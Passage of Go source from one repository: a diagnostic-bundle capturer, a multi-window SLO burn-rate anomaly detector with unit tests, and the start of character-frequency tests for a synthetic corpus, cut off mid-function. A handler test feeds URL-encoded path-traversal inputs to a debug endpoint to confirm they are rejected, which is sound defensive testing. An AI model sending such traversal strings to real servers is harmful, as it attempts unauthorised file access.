// is bundle-<utc-timestamp>-<seq>; files land next to manifest.json.
func (c *Capturer) Capture(reason string) (string, error) {
	if !c.busy.CompareAndSwap(false, true) {
		return "", fmt.Errorf("anomaly: capture already in progress")
	}
	defer c.busy.Store(false)
	now := c.cfg.Now()
	id := fmt.Sprintf("%s%s-%06d", bundlePrefix,
		now.UTC().Format("20060102T150405"), c.seq.Add(1))
	dir := filepath.Join(c.cfg.Dir, id)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", err
	}
	man := Manifest{ID: id, TimeUnixNs: now.UnixNano(), Reason: reason}
	sections := c.sections()
	for _, s := range sections {
		mf := ManifestFile{Name: s.Name}
		f, err := os.Create(filepath.Join(dir, s.Name))
		if err != nil {
			mf.Err = err.Error()
			man.Files = append(man.Files, mf)
			continue
		}
		if err := s.Fill(f); err != nil {
			mf.Err = err.Error()
		}
		if st, err := f.Stat(); err == nil {
			mf.Bytes = st.Size()
		}
		f.Close()
		man.Files = append(man.Files, mf)
	}
	mf, err := os.Create(filepath.Join(dir, "manifest.json"))
	if err != nil {
		return "", err
	}
	enc := json.NewEncoder(mf)
	enc.SetIndent("", "  ")
	if err := enc.Encode(man); err != nil {
		mf.Close()
		return "", err
	}
	if err := mf.Close(); err != nil {
		return "", err
	}
	c.prune(id)
	return id, nil
}

// sections assembles the default profile/vars sections plus the
// configured extras.
func (c *Capturer) sections() []Section {
	var out []Section
	if !c.cfg.SkipProfiles {
		out = append(out,
			Section{Name: "goroutine.pprof", Fill: func(w io.Writer) error {
				return pprof.Lookup("goroutine").WriteTo(w, 0)
			}},
			Section{Name: "heap.pprof", Fill: func(w io.Writer) error {
				return pprof.Lookup("heap").WriteTo(w, 0)
			}},
		)
		if c.cfg.CPUProfileDur > 0 {
			dur := c.cfg.CPUProfileDur
			out = append(out, Section{Name: "cpu.pprof", Fill: func(w io.Writer) error {
				if err := pprof.StartCPUProfile(w); err != nil {
					return err
				}
				time.Sleep(dur)
				pprof.StopCPUProfile()
				return nil
			}})
		}
	}
	if c.cfg.Registry != nil {
		reg := c.cfg.Registry
		out = append(out, Section{Name: "vars.json", Fill: func(w io.Writer) error {
			enc := json.NewEncoder(w)
			enc.SetIndent("", "  ")
			return enc.Encode(reg.Snapshot())
		}})
	}
	return append(out, c.cfg.Sections...)
}

// bundleInfo is one spooled bundle on disk.
type bundleInfo struct {
	id    string
	bytes int64
}

// list returns the spooled bundles, oldest first (ids sort
// chronologically by construction).
func (c *Capturer) list() ([]bundleInfo, error) {
	ents, err := os.ReadDir(c.cfg.Dir)
	if err != nil {
		return nil, err
	}
	var out []bundleInfo
	for _, e := range ents {
		if !e.IsDir() || !strings.HasPrefix(e.Name(), bundlePrefix) {
			continue
		}
		var size int64
		files, err := os.ReadDir(filepath.Join(c.cfg.Dir, e.Name()))
		if err != nil {
			continue
		}
		for _, f := range files {
			if info, err := f.Info(); err == nil {
				size += info.Size()
			}
		}
		out = append(out, bundleInfo{id: e.Name(), bytes: size})
	}
	sort.Slice(out, func(a, b int) bool { return out[a].id < out[b].id })
	return out, nil
}

// prune drops oldest bundles past the count/byte bounds, never the one
// just written.
func (c *Capturer) prune(keep string) {
	bundles, err := c.list()
	if err != nil {
		return
	}
	var total int64
	for _, b := range bundles {
		total += b.bytes
	}
	for _, b := range bundles {
		if len(bundles) <= 1 {
			return
		}
		over := len(bundles) > c.cfg.MaxBundles || total > c.cfg.MaxBytes
		if !over || b.id == keep {
			return
		}
		os.RemoveAll(filepath.Join(c.cfg.Dir, b.id))
		total -= b.bytes
		bundles = bundles[1:]
	}
}

// Manifests returns every spooled manifest, newest first.
func (c *Capturer) Manifests() ([]Manifest, error) {
	bundles, err := c.list()
	if err != nil {
		return nil, err
	}
	out := make([]Manifest, 0, len(bundles))
	for i := len(bundles) - 1; i >= 0; i-- {
		m, err := readManifest(filepath.Join(c.cfg.Dir, bundles[i].id, "manifest.json"))
		if err != nil {
			continue // half-written or foreign dir
		}
		out = append(out, m)
	}
	return out, nil
}

// readManifest loads one manifest.json.
func readManifest(path string) (Manifest, error) {
	var m Manifest
	data, err := os.ReadFile(path)
	if err != nil {
		return m, err
	}
	err = json.Unmarshal(data, &m)
	return m, err
}

package anomaly

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"io"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"repro/internal/telemetry"
)

// fakeClock is the injected deterministic timeline.
type fakeClock struct{ t time.Time }

func newClock() *fakeClock {
	return &fakeClock{t: time.Date(2026, 8, 9, 12, 0, 0, 0, time.UTC)}
}
func (c *fakeClock) now() time.Time          { return c.t }
func (c *fakeClock) advance(d time.Duration) { c.t = c.t.Add(d) }

// serveLoad simulates traffic against the canonical pool metric names.
type serveLoad struct {
	scans, errs, shed *telemetry.Counter
	lat               *telemetry.Histogram
	drift             *telemetry.FloatGauge
}

func newLoad(reg *telemetry.Registry) *serveLoad {
	return &serveLoad{
		scans: reg.Counter("scans_total", ""),
		errs:  reg.Counter("scan_errors_total", ""),
		shed:  reg.Counter("shed_total", ""),
		lat:   reg.Histogram("scan_latency_seconds", "", nil),
		drift: reg.FloatGauge("modelwatch_fit_stat", ""),
	}
}

// ok records n healthy fast scans.
func (l *serveLoad) ok(n int) {
	for i := 0; i < n; i++ {
		l.scans.Inc()
		l.lat.Observe(0.002)
	}
}

// slow records n scans over any sane latency target.
func (l *serveLoad) slow(n int) {
	for i := 0; i < n; i++ {
		l.scans.Inc()
		l.lat.Observe(0.4)
	}
}

func testDetector(reg *telemetry.Registry, clk *fakeClock, capture func(string) (string, error)) *Detector {
	return New(Config{
		Registry: reg,
		Now:      clk.now,
		Targets: Targets{
			LatencyP99:    50 * time.Millisecond,
			LatencyBudget: 0.01,
			ErrorBudget:   0.01,
			DriftCritical: 3.0,
		},
		ShortWindow:   5 * time.Minute,
		LongWindow:    time.Hour,
		Interval:      10 * time.Second,
		BurnThreshold: 2,
		Cooldown:      time.Minute,
		Capture:       capture,
	})
}

func tickFor(d *Detector, clk *fakeClock, dur, step time.Duration, each func()) []string {
	var ids []string
	for elapsed := time.Duration(0); elapsed < dur; elapsed += step {
		if each != nil {
			each()
		}
		ids = append(ids, d.Tick()...)
		clk.advance(step)
	}
	return ids
}

func TestBurnRateTripAndRecover(t *testing.T) {
	reg := telemetry.NewRegistry()
	load := newLoad(reg)
	clk := newClock()
	var captures []string
	d := testDetector(reg, clk, func(reason string) (string, error) {
		captures = append(captures, reason)
		return "bundle-test", nil
	})

	// An hour of healthy traffic: no trips.
	tickFor(d, clk, time.Hour, 10*time.Second, func() { load.ok(20) })
	if d.Trips() != 0 {
		t.Fatalf("healthy traffic tripped %d times", d.Trips())
	}

	// Sustained latency regression: 30%% of scans slow for 10 minutes.
	// Short window burns immediately; the long window needs the
	// excursion to weigh against an hour of history.
	tickFor(d, clk, 10*time.Minute, 10*time.Second, func() { load.ok(14); load.slow(6) })
	if d.Trips() != 1 {
		t.Fatalf("latency excursion produced %d trips, want 1 (latched)", d.Trips())
	}
	if len(captures) != 1 || !strings.Contains(captures[0], "latency") {
		t.Fatalf("captures = %v, want one latency bundle", captures)
	}
	var lat Status
	for _, s := range d.Statuses() {
		if s.Signal == "latency" {
			lat = s
		}
	}
	if !lat.Tripped || lat.BurnShort < 2 || lat.BurnLong < 2 {
		t.Fatalf("latency status not tripped: %+v", lat)
	}

	// Recovery: healthy traffic long enough for both windows to clear,
	// then a second excursion trips again (latch released).
	tickFor(d, clk, 2*time.Hour, 10*time.Second, func() { load.ok(20) })
	for _, s := range d.Statuses() {
		if s.Tripped {
			t.Fatalf("signal %s still tripped after recovery", s.Signal)
		}
	}
	tickFor(d, clk, 10*time.Minute, 10*time.Second, func() { load.ok(10); load.slow(10) })
	if d.Trips() != 2 {
		t.Fatalf("second excursion: trips=%d, want 2", d.Trips())
	}
}

func TestErrorShedBurnTrip(t *testing.T) {
	reg := telemetry.NewRegistry()
	load := newLoad(reg)
	clk := newClock()
	d := testDetector(reg, clk, nil)
	tickFor(d, clk, 30*time.Minute, 10*time.Second, func() { load.ok(20) })
	// Queue collapse: a third of arrivals shed.
	tickFor(d, clk, 10*time.Minute, 10*time.Second, func() {
		load.ok(14)
		for i := 0; i < 6; i++ {
			load.shed.Inc()
		}
	})
	if d.Trips() != 1 {
		t.Fatalf("shed burst produced %d trips, want 1", d.Trips())
	}
	var errs Status
	for _, s := range d.Statuses() {
		if s.Signal == "errors" {
			errs = s
		}
	}
	if !errs.Tripped {
		t.Fatalf("errors signal not tripped: %+v", errs)
	}
}

func TestDriftGaugeTrip(t *testing.T) {
	reg := telemetry.NewRegistry()
	load := newLoad(reg)
	clk := newClock()
	d := testDetector(reg, clk, nil)
	load.drift.Set(1.0)
	tickFor(d, clk, 30*time.Minute, 10*time.Second, func() { load.ok(20) })
	if d.Trips() != 0 {
		t.Fatalf("in-family drift tripped %d times", d.Trips())
	}
	// Fit statistic pinned far over critical: both window averages burn.
	load.drift.Set(9.0)
	tickFor(d, clk, 90*time.Minute, 10*time.Second, func() { load.ok(20) })
	if d.Trips() != 1 {
		t.Fatalf("drift excursion produced %d trips, want 1", d.Trips())
	}
}

func TestCooldownSpacesBundles(t *testing.T) {
	reg := telemetry.NewRegistry()
	load := newLoad(reg)
	clk := newClock()
	captures := 0
	d := testDetector(reg, clk, func(string) (string, error) { captures++; return "b", nil })
	tickFor(d, clk, 30*time.Minute, 10*time.Second, func() { load.ok(20) })
	// Alternate short excursions and recoveries faster than the
	// cooldown: trips count but only the first captures.
	for burst := 0; burst < 3; burst++ {
		tickFor(d, clk, 10*time.Second, 10*time.Second, func() { load.errs.Inc(); load.ok(1) })
	}
	if captures > 1 {
		t.Fatalf("cooldown failed: %d captures inside one cooldown window", captures)
	}
}

func fixedSections() []Section {
	return []Section{
		{Name: "traces.json", Fill: func(w io.Writer) error {
			_, err := io.WriteString(w, `{"traces":[]}`+"\n")
			return err
		}},
		{Name: "notes.txt", Fill: func(w io.Writer) error {
			_, err := io.WriteString(w, "induced spike\n")
			return err
		}},
	}
}

func TestBundleManifestGolden(t *testing.T) {
	dir := t.TempDir()
	clk := newClock()
	c, err := NewCapturer(CaptureConfig{
		Dir:          dir,
		Now:          clk.now,
		SkipProfiles: true,
		Sections:     fixedSections(),
	})
	if err != nil {
		t.Fatal(err)
	}
	id, err := c.Capture("latency SLO burn: short=3.10 long=2.40 (threshold 2.00)")
	if err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(filepath.Join(dir, id, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "manifest.golden.json")
	if os.Getenv("UPDATE_GOLDEN") != "" {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("read golden: %v (rerun with UPDATE_GOLDEN=1)", err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("manifest drifted from golden:\n got: %s\nwant: %s", got, want)
	}
}

func TestSpoolBounded(t *testing.T) {
	dir := t.TempDir()
	clk := newClock()
	c, err := NewCapturer(CaptureConfig{
		Dir: dir, Now: clk.now, SkipProfiles: true,
		MaxBundles: 3, Sections: fixedSections(),
	})
	if err != nil {
		t.Fatal(err)
	}
	var last string
	for i := 0; i < 8; i++ {
		clk.advance(time.Second)
		last, err = c.Capture("trip")
		if err != nil {
			t.Fatal(err)
		}
	}
	mans, err := c.Manifests()
	if err != nil {
		t.Fatal(err)
	}
	if len(mans) != 3 {
		t.Fatalf("spool holds %d bundles, want 3", len(mans))
	}
	if mans[0].ID != last {
		t.Fatalf("newest bundle %s missing from listing (got %s)", last, mans[0].ID)
	}
}

func TestBundlesHandler(t *testing.T) {
	dir := t.TempDir()
	clk := newClock()
	c, err := NewCapturer(CaptureConfig{
		Dir: dir, Now: clk.now, SkipProfiles: true, Sections: fixedSections(),
	})
	if err != nil {
		t.Fatal(err)
	}
	id, err := c.Capture("test trip")
	if err != nil {
		t.Fatal(err)
	}
	h := BundlesHandler(c, func() []Status {
		return []Status{{Signal: "latency", BurnShort: 3, BurnLong: 2.5, Tripped: true}}
	})

	// Listing.
	rr := httptest.NewRecorder()
	h.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/bundles", nil))
	var page BundlesPage
	if err := json.Unmarshal(rr.Body.Bytes(), &page); err != nil {
		t.Fatal(err)
	}
	if page.Count != 1 || page.Bundles[0].ID != id || len(page.Statuses) != 1 {
		t.Fatalf("bad listing: %+v", page)
	}

	// Single file fetch.
	rr = httptest.NewRecorder()
	h.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/bundles?id="+id+"&file=notes.txt", nil))
	if rr.Code != 200 || rr.Body.String() != "induced spike\n" {
		t.Fatalf("file fetch: code=%d body=%q", rr.Code, rr.Body.String())
	}

	// Tar fetch: every manifest file present.
	rr = httptest.NewRecorder()
	h.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/bundles?id="+id, nil))
	if rr.Code != 200 {
		t.Fatalf("tar fetch code=%d", rr.Code)
	}
	tr := tar.NewReader(rr.Body)
	names := map[string]bool{}
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		names[hdr.Name] = true
	}
	for _, want := range []string{"manifest.json", "traces.json", "notes.txt"} {
		if !names[id+"/"+want] {
			t.Fatalf("tar missing %s (have %v)", want, names)
		}
	}

	// Traversal rejected.
	rr = httptest.NewRecorder()
	h.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/bundles?id=..%2Fescape", nil))
	if rr.Code != 400 {
		t.Fatalf("traversal id served with code %d", rr.Code)
	}
	rr = httptest.NewRecorder()
	h.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/bundles?id="+id+"&file=..%2Fmanifest.json", nil))
	if rr.Code != 400 {
		t.Fatalf("traversal file served with code %d", rr.Code)
	}
}

func TestDetectorRunLoop(t *testing.T) {
	reg := telemetry.NewRegistry()
	newLoad(reg).ok(10)
	d := New(Config{Registry: reg, Interval: time.Millisecond,
		Targets: Targets{LatencyP99: 50 * time.Millisecond}})
	stop := make(chan struct{})
	done := d.Run(stop)
	time.Sleep(20 * time.Millisecond)
	close(stop)
	select {
	case <-done:
	case <-time.After(time.Second):
		t.Fatal("Run loop did not join")
	}
}

// Package anomaly watches the serving registry for SLO burn and
// captures diagnostic bundles when it trips.
//
// The detector follows the multi-window burn-rate pattern: each SLO's
// error-budget consumption rate is computed over a short and a long
// window, and an alarm fires only when BOTH exceed the burn threshold
// — the short window gives fast detection, the long window suppresses
// blips. Three signals are watched: the fraction of scans slower than
// the p99 latency target, the error+shed+deadline fraction, and the
// modelwatch drift statistic against its critical value. Everything is
// computed from cumulative counters and histogram buckets already in
// the registry — the detector adds no instrumentation to the hot path
// — and time is an injected clock, so trips are unit-testable on a
// synthetic timeline.
//
// On trip, the detector calls its capture hook (wired to a bundle
// Capturer by the daemon) and arms a per-signal latch: no further
// capture until the signal recovers below the threshold on both
// windows, plus a global cooldown between bundles.
package anomaly

import (
	"fmt"
	"sync"
	"time"

	"repro/internal/telemetry"
)

// Detector defaults.
const (
	DefaultShortWindow   = 5 * time.Minute
	DefaultLongWindow    = time.Hour
	DefaultInterval      = 10 * time.Second
	DefaultBurnThreshold = 2.0
	DefaultCooldown      = 10 * time.Minute
	// DefaultLatencyBudget / DefaultErrorBudget are the allowed bad
	// fractions backing the burn-rate denominators.
	DefaultLatencyBudget = 0.01
	DefaultErrorBudget   = 0.01
	// minWindowEvents suppresses burn math on windows with too few
	// scans to mean anything.
	minWindowEvents = 8
)

// Targets are the SLO objectives. Zero-valued targets disable their
// signal.
type Targets struct {
	// LatencyP99 is the latency objective: at most LatencyBudget of
	// scans may be slower than this.
	LatencyP99 time.Duration
	// LatencyBudget is the allowed slow fraction (default 1%).
	LatencyBudget float64
	// ErrorBudget is the allowed error+shed+deadline fraction of all
	// arrivals (default 1%).
	ErrorBudget float64
	// DriftCritical is the modelwatch fit-statistic level treated as
	// 100% budget burn.
	DriftCritical float64
}

// Config wires a Detector. Registry and Now are required.
type Config struct {
	// Registry is the serving registry the detector samples.
	Registry *telemetry.Registry
	// Now is the injected clock.
	Now func() time.Time
	// Targets are the SLO objectives.
	Targets Targets
	// ShortWindow / LongWindow are the burn windows (5m / 1h default).
	ShortWindow, LongWindow time.Duration
	// Interval is the sampling period for Run (10s default).
	Interval time.Duration
	// BurnThreshold is the burn-rate level both windows must exceed to
	// trip (default 2: budget burning at twice the sustainable rate).
	BurnThreshold float64
	// Cooldown is the minimum spacing between captured bundles.
	Cooldown time.Duration
	// Capture is called on trip with a human-readable reason; it
	// returns the captured bundle id. Nil means trips are only counted.
	Capture func(reason string) (string, error)
}

// signal indexes the watched SLOs.
type signal int

const (
	sigLatency signal = iota
	sigErrors
	sigDrift
	numSignals
)

var signalNames = [numSignals]string{"latency", "errors", "drift"}

// sample is one registry observation: per signal, a cumulative bad
// count and a cumulative total (for the drift gauge: level and 1).
type sample struct {
	t    time.Time
	bad  [numSignals]float64
	tot  [numSignals]float64
	seen bool
}

// Status is one signal's current evaluation, exposed for tests and
// the bundles/debug surface.
type Status struct {
	Signal    string  `json:"signal"`
	BurnShort float64 `json:"burn_short"`
	BurnLong  float64 `json:"burn_long"`
	Tripped   bool    `json:"tripped"`
}

// Detector is the burn-rate evaluator. Tick is single-threaded (Run
// owns it, or tests drive it directly); Statuses is safe to call
// concurrently — the /debug/bundles handler reads it live.
type Detector struct {
	cfg     Config
	ring    []sample
	head    int
	n       int
	latched [numSignals]bool
	lastCap time.Time

	trips   *telemetry.Counter
	bundles *telemetry.Counter
	capErrs *telemetry.Counter
	burnG   [numSignals][2]*telemetry.FloatGauge

	// statusMu guards statuses alone; nothing is called while held.
	statusMu sync.Mutex
	statuses [numSignals]Status
}

// New builds a detector; the ring is sized to hold the long window at
// the configured interval.
func New(cfg Config) *Detector {
	if cfg.ShortWindow <= 0 {
		cfg.ShortWindow = DefaultShortWindow
	}
	if cfg.LongWindow <= 0 {
		cfg.LongWindow = DefaultLongWindow
	}
	if cfg.LongWindow < cfg.ShortWindow {
		cfg.LongWindow = cfg.ShortWindow
	}
	if cfg.Interval <= 0 {
		cfg.Interval = DefaultInterval
	}
	if cfg.BurnThreshold <= 0 {
		cfg.BurnThreshold = DefaultBurnThreshold
	}
	if cfg.Cooldown < 0 {
		cfg.Cooldown = 0
	} else if cfg.Cooldown == 0 {
		cfg.Cooldown = DefaultCooldown
	}
	if cfg.Targets.LatencyBudget <= 0 {
		cfg.Targets.LatencyBudget = DefaultLatencyBudget
	}
	if cfg.Targets.ErrorBudget <= 0 {
		cfg.Targets.ErrorBudget = DefaultErrorBudget
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	slots := int(cfg.LongWindow/cfg.Interval) + 2
	d := &Detector{
		cfg:     cfg,
		ring:    make([]sample, slots),
		trips:   cfg.Registry.Counter("anomaly_trips_total", "burn-rate SLO trips (both windows over threshold)"),
		bundles: cfg.Registry.Counter("anomaly_bundles_total", "diagnostic bundles captured on trip"),
		capErrs: cfg.Registry.Counter("anomaly_capture_errors_total", "bundle captures that failed"),
	}
	for s := signal(0); s < numSignals; s++ {
		d.burnG[s][0] = cfg.Registry.FloatGauge(
			"anomaly_burn_"+signalNames[s]+"_short", "short-window burn rate for the "+signalNames[s]+" SLO")
		d.burnG[s][1] = cfg.Registry.FloatGauge(
			"anomaly_burn_"+signalNames[s]+"_long", "long-window burn rate for the "+signalNames[s]+" SLO")
		d.statuses[s].Signal = signalNames[s]
	}
	return d
}

// observe reads the registry into a sample.
func (d *Detector) observe(now time.Time) sample {
	s := sample{t: now, seen: true}
	snaps := d.cfg.Registry.Snapshot()
	var scans, errs, shed, deadline, drift float64
	var lat *telemetry.HistSnapshot
	for i := range snaps {
		m := &snaps[i]
		switch m.Name {
		case "scans_total":
			scans = m.Value
		case "scan_errors_total":
			errs = m.Value
		case "shed_total":
			shed = m.Value
		case "deadline_exceeded_total":
			deadline = m.Value
		case "modelwatch_fit_stat":
			drift = m.Value
		case "scan_latency_seconds":
			lat = m.Hist
		}
	}
	if lat != nil && d.cfg.Targets.LatencyP99 > 0 {
		target := d.cfg.Targets.LatencyP99.Seconds()
		var good float64
		for i, b := range lat.Bounds {
			if b <= target {
				good += float64(lat.Counts[i])
			}
		}
		s.tot[sigLatency] = float64(lat.Count)
		s.bad[sigLatency] = float64(lat.Count) - good
	}
	arrivals := scans + shed + deadline
	s.tot[sigErrors] = arrivals
	s.bad[sigErrors] = errs + shed + deadline
	// Drift is a level, not a ratio: store the gauge so windows average
	// it.
	s.bad[sigDrift] = drift
	s.tot[sigDrift] = 1
	return s
}

// baseline finds the newest sample at least w old, falling back to the
// oldest retained sample so the detector works before a full window of
// history exists.
func (d *Detector) baseline(now time.Time, w time.Duration) (sample, bool) {
	var oldest sample
	var best sample
	cutoff := now.Add(-w)
	for i := 0; i < d.n; i++ {
		s := d.ring[(d.head-1-i+len(d.ring)*2)%len(d.ring)] // newest → oldest
		if !s.seen {
			continue
		}
		oldest = s
		if !cutoff.Before(s.t) {
			best = s
			break
		}
	}
	if best.seen {
		return best, true
	}
	return oldest, oldest.seen
}

// burn computes one signal's burn rate between base and cur.
func (d *Detector) burn(sig signal, base, cur sample) float64 {
	switch sig {
	case sigDrift:
		if d.cfg.Targets.DriftCritical <= 0 {
			return 0
		}
		// Average the level across the window endpoints; a sustained
		// excursion holds both ends high, a blip only one.
		return (base.bad[sigDrift] + cur.bad[sigDrift]) / 2 / d.cfg.Targets.DriftCritical
	case sigLatency:
		if d.cfg.Targets.LatencyP99 <= 0 {
			return 0
		}
		dTot := cur.tot[sig] - base.tot[sig]
		if dTot < minWindowEvents {
			return 0
		}
		return (cur.bad[sig] - base.bad[sig]) / dTot / d.cfg.Targets.LatencyBudget
	default: // sigErrors
		dTot := cur.tot[sig] - base.tot[sig]
		if dTot < minWindowEvents {
			return 0
		}
		return (cur.bad[sig] - base.bad[sig]) / dTot / d.cfg.Targets.ErrorBudget
	}
}

// Statuses returns the latest per-signal evaluation.
func (d *Detector) Statuses() []Status {
	out := make([]Status, numSignals)
	d.statusMu.Lock()
	copy(out, d.statuses[:])
	d.statusMu.Unlock()
	return out
}

// Trips returns the total trip count.
func (d *Detector) Trips() uint64 { return d.trips.Value() }

// Tick samples the registry, evaluates every signal over both windows,
// and captures a bundle on a fresh trip. It returns the ids of bundles
// captured this tick (normally zero or one).
func (d *Detector) Tick() []string {
	now := d.cfg.Now()
	cur := d.observe(now)
	d.ring[d.head] = cur
	d.head = (d.head + 1) % len(d.ring)
	if d.n < len(d.ring) {
		d.n++
	}
	var captured []string
	for sig := signal(0); sig < numSignals; sig++ {
		baseS, okS := d.baseline(now, d.cfg.ShortWindow)
		baseL, okL := d.baseline(now, d.cfg.LongWindow)
		var bShort, bLong float64
		if okS {
			bShort = d.burn(sig, baseS, cur)
		}
		if okL {
			bLong = d.burn(sig, baseL, cur)
		}
		d.burnG[sig][0].Set(bShort)
		d.burnG[sig][1].Set(bLong)
		over := bShort >= d.cfg.BurnThreshold && bLong >= d.cfg.BurnThreshold
		d.statusMu.Lock()
		d.statuses[sig] = Status{
			Signal: signalNames[sig], BurnShort: bShort, BurnLong: bLong,
			Tripped: over,
		}
		d.statusMu.Unlock()
		if !over {
			d.latched[sig] = false
			continue
		}
		if d.latched[sig] {
			continue // still inside the same excursion
		}
		d.latched[sig] = true
		d.trips.Inc()
		if d.cfg.Capture == nil {
			continue
		}
		if !d.lastCap.IsZero() && now.Sub(d.lastCap) < d.cfg.Cooldown {
			continue
		}
		reason := fmt.Sprintf("%s SLO burn: short=%.2f long=%.2f (threshold %.2f)",
			signalNames[sig], bShort, bLong, d.cfg.BurnThreshold)
		id, err := d.cfg.Capture(reason)
		if err != nil {
			d.capErrs.Inc()
			continue
		}
		d.lastCap = now
		d.bundles.Inc()
		captured = append(captured, id)
	}
	return captured
}

// Run ticks the detector until stop closes. The returned channel
// closes when the loop has exited (join evidence for the caller).
func (d *Detector) Run(stop <-chan struct{}) <-chan struct{} {
	done := make(chan struct{})
	go func() {
		defer close(done)
		t := time.NewTicker(d.cfg.Interval)
		defer t.Stop()
		for {
			select {
			case <-stop:
				return
			case <-t.C:
				d.Tick()
			}
		}
	}()
	return done
}

package corpus

import (
	"math"
	"strings"
	"testing"

	"repro/internal/textins"
)

func TestFrequenciesBasics(t *testing.T) {
	freq, err := Frequencies([]byte("aab"))
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(freq['a']-2.0/3) > 1e-12 || math.Abs(freq['b']-1.0/3) > 1e-12 {
		t.Errorf("freq a=%v b=%v", freq['a'], freq['b'])
	}
	if _, err := Frequencies(nil); err == nil {
		t.Error("empty data should error")
	}
}

func TestFrequenciesSumToOne(t *testing.T) {
	g := NewGenerator(1)
	data := []byte(g.HTMLPage(10000))
	freq, err := Frequencies(data)
	if err != nil {
		t.Fatal(err)
	}
	var sum float64
	for _, v := range freq {
		sum += v
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Errorf("frequencies sum to %v", sum)
	}
}

func TestMassHelpers(t *testing.T) {
	var freq [256]float64
	freq['l'], freq['m'], freq['n'], freq['o'] = 0.05, 0.02, 0.06, 0.07
	freq['.'], freq['d'], freq['e'] = 0.01, 0.03, 0.10
	freq['f'], freq['g'] = 0.02, 0.02
	if got := IOMass(freq); math.Abs(got-0.20) > 1e-12 {
		t.Errorf("IOMass = %v", got)
	}
	if got := PrefixMass(freq); math.Abs(got-0.18) > 1e-12 {
		t.Errorf("PrefixMass = %v", got)
	}
	if got := WrongSegMass(freq); math.Abs(got-0.14) > 1e-12 {
		t.Errorf("WrongSegMass = %v", got)
	}
	if got := Mass(freq, []byte{'l', '.'}); math.Abs(got-0.06) > 1e-12 {
		t.Errorf("Mass = %v", got)
	}
}

func TestEnglishFreqShape(t *testing.T) {
	freq := EnglishFreq()
	var sum float64
	for _, v := range freq {
		sum += v
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Fatalf("EnglishFreq sums to %v", sum)
	}
	if TextMass(freq) < 0.999 {
		t.Errorf("EnglishFreq text mass = %v, want ~1", TextMass(freq))
	}
	// 'e' must be the most frequent letter.
	for b := byte('a'); b <= 'z'; b++ {
		if b != 'e' && freq[b] > freq['e'] {
			t.Errorf("freq[%c]=%v exceeds freq[e]=%v", b, freq[b], freq['e'])
		}
	}
	// The paper-relevant masses must be in realistic bands.
	if io := IOMass(freq); io < 0.10 || io > 0.25 {
		t.Errorf("IOMass = %v, want within [0.10, 0.25] (paper: 0.185)", io)
	}
	if z := PrefixMass(freq); z < 0.08 || z > 0.25 {
		t.Errorf("PrefixMass = %v, want within [0.08, 0.25] (paper: 0.16)", z)
	}
}

func TestNormalize(t *testing.T) {
	var freq [256]float64
	freq['a'], freq['b'] = 3, 1
	norm, err := Normalize(freq)
	if err != nil {
		t.Fatal(err)
	}
	if norm['a'] != 0.75 || norm['b'] != 0.25 {
		t.Errorf("normalize: a=%v b=%v", norm['a'], norm['b'])
	}
	var zero [256]float64
	if _, err := Normalize(zero); err == nil {
		t.Error("zero table should error")
	}
	freq['c'] = -1
	if _, err := Normalize(freq); err == nil {
		t.Error("negative entry should error")
	}
}

func TestGeneratorDeterminism(t *testing.T) {
	a := NewGenerator(5).HTMLPage(2000)
	b := NewGenerator(5).HTMLPage(2000)
	if a != b {
		t.Error("same seed produced different pages")
	}
	c := NewGenerator(6).HTMLPage(2000)
	if a == c {
		t.Error("different seeds produced identical pages")
	}
}

func TestSentenceShape(t *testing.T) {
	g := NewGenerator(2)
	s := g.Sentence(5)
	if len(s) == 0 {
		t.Fatal("empty sentence")
	}
	first := s[0]
	if first < 'A' || first > 'Z' {
		t.Errorf("sentence not capitalized: %q", s)
	}
	last := s[len(s)-1]
	if last != '.' && last != '?' && last != '!' {
		t.Errorf("sentence lacks terminal punctuation: %q", s)
	}
	if got := g.Sentence(0); len(got) == 0 {
		t.Error("Sentence(0) should clamp to one word")
	}
}

func TestParagraphLength(t *testing.T) {
	g := NewGenerator(3)
	p := g.Paragraph(500)
	if len(p) < 500 || len(p) > 800 {
		t.Errorf("paragraph length %d, want roughly 500", len(p))
	}
}

func TestHTTPRequestIsText(t *testing.T) {
	g := NewGenerator(4)
	req := g.HTTPRequest()
	if len(req) < 100 {
		t.Errorf("request too short: %q", req)
	}
	for _, b := range []byte(req) {
		if b != '\r' && b != '\n' && (b < 0x20 || b > 0x7E) {
			t.Errorf("non-text byte %#x in request", b)
		}
	}
}

func TestDatasetShape(t *testing.T) {
	cases, err := Dataset(1, 100, 4000)
	if err != nil {
		t.Fatal(err)
	}
	if len(cases) != 100 {
		t.Fatalf("got %d cases", len(cases))
	}
	kinds := map[CaseKind]int{}
	for i, c := range cases {
		if len(c.Data) != 4000 {
			t.Fatalf("case %d has %d bytes", i, len(c.Data))
		}
		if !textins.IsTextStream(c.Data) {
			t.Fatalf("case %d contains non-text bytes", i)
		}
		kinds[c.Kind]++
	}
	if kinds[CaseHTML] == 0 || kinds[CaseHTTPRequests] == 0 || kinds[CaseEmail] == 0 {
		t.Errorf("dataset missing a traffic kind: %v", kinds)
	}
}

func TestDatasetValidation(t *testing.T) {
	if _, err := Dataset(1, 0, 100); err == nil {
		t.Error("zero count should fail")
	}
	if _, err := Dataset(1, 1, 0); err == nil {
		t.Error("zero caseLen should fail")
	}
}

// TestDatasetCharacterStatistics verifies the substitution claim in
// DESIGN.md: the synthetic corpus reproduces the character masses the
// paper's parameter estimation rests on.
func TestDatasetCharacterStatistics(t *testing.T) {
	cases, err := Dataset(7, 100, 4000)
	if err != nil {
		t.Fatal(err)
	}
